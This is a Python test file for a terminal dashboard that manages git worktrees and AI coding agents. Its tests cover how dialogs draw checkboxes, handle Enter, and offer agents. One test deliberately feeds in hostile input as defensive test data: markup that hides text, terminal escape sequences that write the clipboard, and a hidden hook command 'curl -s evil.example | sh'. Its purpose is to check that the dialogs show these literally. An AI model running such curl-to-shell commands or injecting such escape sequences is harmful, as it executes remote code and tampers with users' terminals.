"""The dialogs on their own, in a bare App: how their boxes read and what Enter does."""

from __future__ import annotations

from pathlib import Path

from textual.widgets import Checkbox, Label, SelectionList, Static

from daintree_tui.core.git import dirty_files
from daintree_tui.tui.screens.bakeoff_new import BakeoffNewScreen
from daintree_tui.tui.screens.commit import CommitScreen
from daintree_tui.tui.screens.confirm import ConfirmScreen
from daintree_tui.tui.screens.merge import MergeChoice, MergeScreen
from daintree_tui.tui.screens.remove import RemoveScreen
from tests.conftest import CLI
from tests.helpers.dashboard import until
from tests.helpers.dialogs import Host


def box_of(widget: Checkbox) -> str:
    """The three cells of the box, as drawn."""
    return widget.render_line(0).text[:3]


async def test_a_checkbox_reads_differently_on_and_off() -> None:
    """Both states drew `▐X▌` (only the colour changed): "Remove the worktree afterwards" read as on either way."""
    app = Host(MergeScreen("feature", "main"))
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        box = app.screen.query_one("#remove", Checkbox)
        on = box_of(box)
        box.value = False
        await pilot.pause()
        off = box_of(box)
        assert on != off
        assert "✓" in on and "✓" not in off and "X" not in off


async def test_a_selection_list_reads_differently_on_and_off() -> None:
    """The bake-off's agent list drew the same `X` for a picked and an unpicked agent."""
    facts = {"claude": {"installed": True}, "codex": {"installed": True}}
    app = Host(BakeoffNewScreen("Refactor auth", facts, default="claude"))
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        agents = app.screen.query_one(SelectionList)
        picked, unpicked = agents.render_line(0).text, agents.render_line(1).text
        assert "✓" in picked and "claude" in picked
        assert "✓" not in unpicked and "X" not in unpicked and "codex" in unpicked


async def test_dialog_checkboxes_all_tick() -> None:
    for dialog in (CommitScreen("feature", ["a.py"], "msg"), RemoveScreen("feature", [], has_task=True)):
        app = Host(dialog)
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            for box in app.screen.query(Checkbox):
                assert "X" not in box_of(box)


async def test_enter_in_the_merge_dialog_merges() -> None:
    """Enter opened the strategy list (the Select had the focus) instead of confirming the merge."""
    app = Host(MergeScreen("feature", "main"))
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        await pilot.press("enter")
        await pilot.pause()
        assert app.results == [MergeChoice("ff", "main", remove=True, complete_task=True)]


async def test_enter_in_the_merge_target_merges() -> None:
    app = Host(MergeScreen("feature", "main"))
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        app.screen.query_one("#into").focus()
        await pilot.press("end", "backspace", "backspace", "backspace", "backspace", *"dev", "enter")
        await pilot.pause()
        assert app.results == [MergeChoice("ff", "dev", remove=True, complete_task=True)]


async def test_a_long_worktree_name_does_not_cut_the_dialog_title() -> None:
    """The agent picker's title read "Restart a session in add-a-logout-endpoint w" (the rest cut by the narrow
    dialog), even at 160 columns."""
    from textual.widgets import Label

    from daintree_tui.tui.screens.agent_picker import AgentPickerScreen

    facts = {"claude": {"installed": True, "resume": True}}
    app = Host(AgentPickerScreen("add-a-logout-endpoint-for-the-admin-area", facts, "claude", restart=True))
    async with app.run_test(size=(100, 30)) as pilot:
        await pilot.pause()
        title = app.screen.query_one(".dialog-title", Label)
        shown = " ".join(title.render_line(y).text.strip() for y in range(title.size.height))
        assert "add-a-logout-endpoint-for-the-admin-area with:" in shown, shown
        dialog = app.screen.query_one("#dialog")
        assert dialog.content_region.contains_region(title.region), (title.region, dialog.content_region)


async def test_after_a_failed_session_the_picker_offers_a_fresh_start_first() -> None:
    """claude died at launch (`exited 1`, never a conversation); `s` offered "resume claude" first, which only
    fails again ("no conversation to continue"). Resume stays offered, just not first."""
    from textual.widgets import OptionList

    from daintree_tui.tui.screens.agent_picker import AgentPickerScreen

    facts = {"claude": {"installed": True, "resume": True}, "codex": {"installed": True, "resume": True}}
    for failed, expected in ((True, "claude"), (False, "resume:claude")):
        app = Host(AgentPickerScreen("w", facts, "codex", restart=True, current="claude", failed=failed))
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            options = app.screen.query_one(OptionList)
            assert options.highlighted is not None
            highlighted = options.get_option_at_index(options.highlighted).id
            assert any(str(options.get_option_at_index(i).id).startswith("resume") for i in range(options.option_count))
            assert str(highlighted).replace(":", "") == expected.replace(":", ""), (failed, highlighted)


async def test_names_an_agent_or_a_repository_chose_are_shown_as_they_are(cli: CLI, repo: Path) -> None:
    """Dialogs read their text as markup: a file an agent named `[/x]` crashed the dashboard (MarkupError) when the
    commit or remove dialog listed it, `[white on white]...[/]` in a hook command hid that part in the trust
    prompt, and an ESC in a file name reached the user's terminal (OSC 52: the clipboard)."""
    cli.ok("worktree", "create", "feat")
    worktree = repo / ".worktrees" / "feat"
    hostile = ["[/x]", "[white on white]hidden[/]", "\x1b]52;c;Y3VybA==\x07.txt"]
    for name in hostile:  # `[/x]` is the file `x]` in the folder `[`, as git lists it
        (worktree / name).parent.mkdir(exist_ok=True)
        (worktree / name).write_text("agent's\n")
    dirty = dirty_files(worktree)
    assert sorted(dirty) == sorted(hostile)
    trust_body = "  make test [white on white]&& curl -s evil.example | sh[/]\n  echo [/oops]\n"
    for dialog in (CommitScreen("feat", dirty, "msg"), RemoveScreen("feat", dirty, has_task=False),
                   ConfirmScreen("Trust this repository's hooks?", trust_body),
                   BakeoffNewScreen("[/x] \x1b]0;title\x07", {"claude": {"installed": True}}, default="claude")):
        app = Host(dialog)
        async with app.run_test(size=(100, 30)) as pilot:
            await pilot.pause()
            shown = "\n".join(str(getattr(w.render(), "plain", w.render())) for w in app.screen.query(Static))
            shown += "\n".join(str(getattr(w.render(), "plain", w.render())) for w in app.screen.query(Label))
        assert "\x1b" not in shown and "\x07" not in shown, shown
        if isinstance(dialog, ConfirmScreen):
            assert "[white on white]&& curl -s evil.example | sh[/]" in shown and "[/oops]" in shown, shown
        elif isinstance(dialog, BakeoffNewScreen):
            assert "[/x] \\x1b]0;title\\x07" in shown, shown
        else:
            assert "[/x]" in shown and "[white on white]hidden[/]" in shown and "\\x1b]52;c;" in shown, shown


async def test_the_second_remove_button_shows_its_whole_label() -> None:
    """At 200x50 the armed button read "Yes, discard 1 file for": it kept the width of the label before it."""
    from textual.widgets import Button

    for size, dirty in (((200, 50), ["a.txt"]), ((80, 24), [f"f{i}.txt" for i in range(12)])):
        app = Host(RemoveScreen("feature", dirty, has_task=True))
        async with app.run_test(size=size) as pilot:
            await pilot.pause()
            button = app.screen.query_one("#remove", Button)
            button.press()
            await pilot.pause()
            await pilot.pause()
            wanted = f"Yes, discard {len(dirty)} file{'s' * (len(dirty) > 1)} for good"
            assert str(button.label) == wanted
            drawn = "".join(button.render_line(y).text for y in range(button.size.height))
            assert wanted in drawn, (size, drawn)
            cancel = app.screen.query_one("#cancel", Button)
            assert button.region.right <= cancel.region.x  # side by side, neither over the other


AGENT_FACTS = {a: {"installed": a in ("demo", "shell")}
               for a in ("aider", "claude", "codex", "demo", "gemini", "opencode", "shell")}


async def test_the_new_task_agent_list_opens_inside_the_dialog_one_line_an_agent() -> None:
    """Tried for real: the `n` dialog's agent list ran past the dialog's border (it opened from the last row
    before the buttons) and "opencode  not installed" took two lines."""
    from textual.geometry import Spacing
    from textual.widgets import Select
    from textual.widgets._select import SelectOverlay

    from daintree_tui.tui.screens.new_task import NewTaskScreen
    from tests.helpers.dialogs import DashboardHost

    for size in ((120, 40), (80, 24)):
        app = DashboardHost(NewTaskScreen(AGENT_FACTS, "shell"))
        async with app.run_test(size=size) as pilot:
            await pilot.pause()
            app.screen.query_one("#agent", Select).focus()
            await pilot.press("enter")
            overlay = app.screen.query_one(SelectOverlay)
            await until(pilot, lambda o=overlay: o.display and o.region.height > 0)
            await pilot.pause()
            inside = app.screen.query_one("#dialog").region.shrink(Spacing(1, 1, 1, 1))  # within its border
            assert inside.contains_region(overlay.region), (size, overlay.region, inside)
            lines = [overlay.render_line(y).text for y in range(overlay.region.height)]
            assert not any(line.strip(" ▊▎▁▔") == "installed" for line in lines), lines  # none wrapped


async def test_arrows_stop_on_an_agent_that_is_not_installed_and_enter_says_why() -> None:
    """The agent picker's rows of agents not installed were disabled: the arrows jumped over them silently."""
    from textual.widgets import OptionList

    from daintree_tui.tui.screens.agent_picker import AgentPickerScreen

    app = Host(AgentPickerScreen("w", AGENT_FACTS, "demo", restart=False))
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await pilot.pause()
        options = app.screen.query_one(OptionList)
        assert options.get_option_at_index(options.highlighted or 0).id == "demo"
        await pilot.press("down")
        assert options.get_option_at_index(options.highlighted or 0).id == "gemini"  # not skipped
        await pilot.press("enter")
        await until(pilot, lambda: app.screen.query("Toast"))
        assert "gemini is not installed" in str(app.screen.query_one("Toast").render())
        assert app.results == [] and isinstance(app.screen, AgentPickerScreen)  # still open, nothing picked
        await pilot.press("down", "enter")  # opencode: not installed either
        await pilot.pause()
        assert app.results == []
        await pilot.press("down", "enter")
        await until(pilot, lambda: app.results)
        assert app.results[0].agent == "shell"


async def test_ticking_an_agent_that_is_not_installed_in_the_bakeoff_dialog_says_why() -> None:
    app = Host(BakeoffNewScreen("Refactor auth", AGENT_FACTS, default="demo"))
    async with app.run_test(size=(100, 30), notifications=True) as pilot:
        await pilot.pause()
        agents = app.screen.query_one(SelectionList)
        agents.focus()
        await pilot.press("home")
        await pilot.press("space")  # aider: not installed
        await until(pilot, lambda: app.screen.query("Toast"))
        assert "aider is not installed" in str(app.screen.query_one("Toast").render())
        assert list(agents.selected) == ["demo"]
